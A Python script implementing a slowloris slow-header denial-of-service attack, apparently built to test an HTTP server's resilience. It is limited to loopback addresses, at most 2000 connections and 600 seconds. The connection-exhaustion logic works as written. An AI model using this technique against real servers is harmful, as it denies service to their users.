#!/usr/bin/python3
"""slowloris.py -- a bounded slow-header attack on an HTTP server, for tests.

    slowloris.py HOST PORT SOURCE CONNECTIONS SECONDS

Keeps CONNECTIONS TCP connections from the address SOURCE (a loopback
address: 127.0.0.2 and the like) to HOST:PORT, each sending one byte of an
endless request header per second, and opens a closed one again at most
once a second, for SECONDS.  Refuses any HOST or SOURCE outside 127.0.0.0/8.
Prints one line: connections opened, closed by the server, most open at once.
"""
import ipaddress
import selectors
import socket
import sys
import time


def main():
    if len(sys.argv) != 6:
        print(__doc__.strip().splitlines()[2].strip(), file=sys.stderr)
        return 2
    host, port, source = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    count, seconds = int(sys.argv[4]), float(sys.argv[5])
    for a in (host, source):
        if not ipaddress.ip_address(a) in ipaddress.ip_network("127.0.0.0/8"):
            print("slowloris: %s is not a loopback address" % a, file=sys.stderr)
            return 2
    if not 0 < count <= 2000 or not 0 < seconds <= 600:
        print("slowloris: 1..2000 connections for at most 600 s", file=sys.stderr)
        return 2
    header = b"GET /health HTTP/1.1\r\nHost: x\r\n" + b"X-Slow: " + b"a" * 100000
    sel = selectors.DefaultSelector()
    slots = [None] * count          # (socket, bytes sent) or None
    next_try = [0.0] * count        # when a closed slot may open again
    opened = closed = most = 0
    end = time.monotonic() + seconds
    last_tick = 0.0
    while time.monotonic() < end:
        now = time.monotonic()
        for i in range(count):
            if slots[i] is None and now >= next_try[i]:
                s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                s.setblocking(False)
                try:
                    s.bind((source, 0))
                    s.connect_ex((host, port))
                except OSError:
                    s.close()
                    next_try[i] = now + 1
                    continue
                slots[i] = [s, 0]
                sel.register(s, selectors.EVENT_READ, i)
                opened += 1
        # one byte on every connection once a second
        if now - last_tick >= 1.0:
            last_tick = now
            for i in range(count):
                if slots[i] is None:
                    continue
                s, sent = slots[i]
                try:
                    s.send(header[sent:sent + 1])
                    slots[i][1] = min(sent + 1, len(header) - 1)
                except (BlockingIOError, InterruptedError):
                    pass
                except OSError:
                    sel.unregister(s)
                    s.close()
                    slots[i] = None
                    next_try[i] = now + 1
                    closed += 1
        # the server closing a connection shows as readable (EOF or a reply)
        for key, _ in sel.select(timeout=0.05):
            i = key.data
            s = slots[i][0]
            try:
                data = s.recv(4096)
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                data = b""
            if not data:
                sel.unregister(s)
                s.close()
                slots[i] = None
                next_try[i] = time.monotonic() + 1
                closed += 1
        most = max(most, sum(1 for x in slots if x is not None))
    for x in slots:
        if x is not None:
            x[0].close()
    print("slowloris: %d connections opened, %d closed by the server, at most %d open at once"
          % (opened, closed, most))
    return 0


if __name__ == "__main__":
    sys.exit(main())
